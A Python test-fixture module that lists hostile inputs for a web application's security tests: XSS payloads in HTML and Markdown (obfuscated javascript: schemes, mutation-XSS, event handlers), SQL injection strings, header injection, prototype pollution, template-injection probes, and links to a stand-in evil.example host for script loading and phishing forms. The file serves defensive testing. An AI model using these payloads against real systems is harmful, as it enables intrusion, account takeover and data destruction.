"""What an attacker would send: scripts in Markdown and HTML, SQL, broken texts, wrong bodies.

Lists only; tests/web/test_hostile.py sends them and says what must happen.
"""

from __future__ import annotations

from itertools import product
from typing import Any

TAGS = ("img", "svg", "video", "audio", "body", "details", "input", "iframe", "marquee", "a")
EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick")
SCHEMES = (
    "javascript:stolen()",
    "JaVaScRiPt:stolen()",
    " javascript:stolen()",
    "java\tscript:stolen()",
    "java\nscript:stolen()",
    "javascript&colon;stolen()",
    "&#106;avascript:stolen()",
    "&#x6A;avascript&#x3A;stolen()",
    "\x01javascript:stolen()",
    "javascript:%0Astolen()",
    "vbscript:stolen()",
    "data:text/html,<script>stolen()</script>",
    "data:text/html;base64,PHNjcmlwdD5zdG9sZW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=stolen()>",
    "blob:http://x/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "/logout",
    'http://evil.example/" onmouseover="stolen()',
)
HTML = [
    *(f"<{tag} src=x {event}=stolen()>" for tag, event in product(TAGS, EVENTS)),
    "<script>stolen()</script>",
    "<ScRiPt>stolen()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>stolen()</scr</script>ipt>",
    "<script\x00>stolen()</script>".replace("\x00", "\x0c"),
    "<script/x>stolen()</script>",
    "<<script>stolen();//<</script>",
    "</p></div></main><script>stolen()</script>",
    "</textarea><script>stolen()</script>",
    "</script><script>stolen()</script>",
    "</title><script>stolen()</script>",
    "--><script>stolen()</script><!--",
    '<!--<img src="--><img src=x onerror=stolen()>">',
    "<![CDATA[<script>stolen()</script>]]>",
    "<?xml version='1.0'?><script>stolen()</script>",
    "<!DOCTYPE html><script>stolen()</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    '<div style="background:url(javascript:stolen())">x</div>',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:stolen()">',
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=password><button>go</button></form>",
    '<object data="javascript:stolen()"></object>',
    '<embed src="javascript:stolen()">',
    '<iframe srcdoc="<script>stolen()</script>"></iframe>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=stolen()>",
    '<math><mi//xlink:href="data:x,<script>stolen()</script>">',
    "<svg><script>stolen()</script></svg>",
    "<svg><animate onbegin=stolen() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg onload=stolen()>"></svg>',
    "<svg><foreignObject><img src=x onerror=stolen()></foreignObject></svg>",
    '<noscript><p title="</noscript><img src=x onerror=stolen()>">',
    "<template><script>stolen()</script></template>",
    "<select><noembed></select><script>x='a@</noembed>'-stolen()</script>",
    "<x contenteditable onblur=stolen()>lose focus</x>",
    "<img src=`x`onerror=stolen()>",
    "<img src=x:x onerror\n=\nstolen()>",
    '<img """><script>stolen()</script>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;stolen()>",
    "&lt;script&gt;stolen()&lt;/script&gt;",
    "&#60;script&#62;stolen()&#60;/script&#62;",
    "\uff1cscript\uff1estolen()\uff1c/script\uff1e",
    "{{ 7 * 7 }}{% raw %}",
    "{{ request.app.state.site.secret }}",
    "${stolen()} #{stolen()} <%= stolen() %>",
]
MARKDOWN = [
    *(f"[click]({scheme})" for scheme in SCHEMES),
    *(f"[click](<{scheme}>)" for scheme in SCHEMES),
    *(f"![picture]({scheme})" for scheme in SCHEMES),
    *(f"<{scheme}>" for scheme in SCHEMES),
    *(f"[click][r]\n\n[r]: {scheme}" for scheme in SCHEMES),
    "![](http://evil.example/pixel.png)",
    "![alt](http://evil.example/x.png \"onload=stolen()\")",
    "![alt](http://evil.example/x.png'onerror='stolen())",
    "[![alt](http://evil.example/x.png)](http://evil.example/)",
    "![![deep](http://evil.example/1.png)](http://evil.example/2.png)",
    "[a](http://evil.example \"x\\\" onclick=\\\"stolen()\")",
    "```html\" onload=\"stolen()\n<script>stolen()</script>\n```",
    "```<script>stolen()</script>\ncode\n```",
    "`<script>stolen()</script>`",
    "    <script>stolen()</script>",
    "| <script>stolen()</script> | b |\n|---|---|\n| <img src=x onerror=stolen()> | c |",
    "# <script>stolen()</script>",
    "> <img src=x onerror=stolen()>",
    "* <svg onload=stolen()>",
    "$<img src=x onerror=stolen()>$",
    "$$<script>stolen()</script>$$",
    "\\(<script>stolen()</script>\\)",
    "\\[</p><img src=x onerror=stolen()>\\]",
    "$a$<script>stolen()</script>$b$",
    "[x]: javascript:stolen() \"t\"\n\n[x]",
    "\\<script>stolen()\\</script>",
    "a\u2028<script>stolen()</script>\u2029b",
    "\ufeff<script>stolen()</script>",
    "\u202e<script>stolen()</script>",
]  # fmt: skip
SCRIPTS = [*HTML, *MARKDOWN]

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE annotation; --",
    '"; DELETE FROM member; --',
    "1); UPDATE member SET role='owner'; --",
    "' UNION SELECT digest FROM login --",
    "\\'; DROP TABLE item; --",
    "%' OR 1=1 --",
    "Robert'); DROP TABLE slot;--",
    "$$; DROP TABLE project; $$",
    ":id; SELECT pg_sleep(10)",
    "%(id)s %s ? :1",
    "' || (SELECT body FROM answer) || '",
]

TEXTS = {
    "a NUL": "a\0b",
    "a lone high surrogate": "\ud800",
    "a lone low surrogate": "x\udfffx",
    "surrogates the wrong way round": "\udc00\ud800",
}
"""Texts that no database takes."""

ODD_TEXTS = [
    "e\u0301" * 20, "\u200b\u200e\u202e\u2066", "\ufffe\uffff", "\U0010ffff",
    "\U0001f469\u200d\U0001f4bb",
    "\u0007\x1b[31m", "\r\n\r\nSet-Cookie: x=1", "Z\u0351\u036b\u0343" * 20, "\ufdfa" * 50, " ",
]  # fmt: skip
"""Texts that are strange and whole: kept exactly as they are."""

BROKEN_BODIES = [
    b"", b"{", b"[]", b"null", b"true", b"0", b'"text"', b"{}", b"\xff\xfe", b"\x00", b"{'a':1}",
    b'{"lease":', b"[" * 100_000, b'{"a":' * 50_000, b"[" * 50_000 + b"]" * 50_000,
    b'{"lease":1,"lease":2}', b'{"lease":' + b"9" * 5_000 + b"}", b"NaN", b"Infinity",
    '{"lease":77}'.encode("utf-16"), b"\xef\xbb\xbf{}", b'{"\xc3\x28":1}', b'{"\\ud800":1}',
    b'{"__proto__":{"role":"owner"}}', b"lease=1&verdict=3", b"<answer/>", b"--\r\n",
]  # fmt: skip
"""Bodies that no JSON endpoint can read."""

WRONG_FIELDS: dict[str, list[Any]] = {
    "lease": [None, "1", 1.5, True, -1, 0, 2**31, 2**63, 2**64, 10**400, [], {}, [1], "' OR 1=1",
              "", "0" * 15, "0" * 17, "g" * 16, "A" * 16, "0" * 16 + "\n", "\u0661" * 16],
    "key": [None, 1, "", "x" * 101, "a b", "a\n", "\u00fc", [], {}, "'; --", "../x", "a\0"],
    "verdict": [
        None, True, 0, 9, -1, 4.5, "3", "Tie", "left", "", [], [1], [1, 1, 1], [0, 1], [1, 3],
        [2, 2], ["1", "2"], [True, False], [1.0, 2.0], {}, {"grade": 3}, 10**30, "' OR 1=1",
        [[1], [2]], [10**30, 1], [1] * 101,
    ],
    "seconds": [None, "1", -0.1, True, [], {}, 1e10],
    "rewrite": [None, 1, [], {}, "x" * 40_001, *TEXTS.values()],
    "tags": [None, "tag", {}, [1], [None], ["x" * 101], ["a"] * 31, [""], [["a"]],
             *([text] for text in TEXTS.values())],
    "comment": [None, 1, [], {}, "x" * 8_001, *TEXTS.values()],
    "ui": [None, 1, [], {}, "x" * 201, *TEXTS.values()],
    "role": ["owner"],
    "member": [1],
    "annotator": ["somebody else"],
    "revision": [7],
    "occasion": [1],
    "__class__": ["x"],
}  # fmt: skip
"""Values of an answer's fields that must be refused, each alone in an answer that is right."""
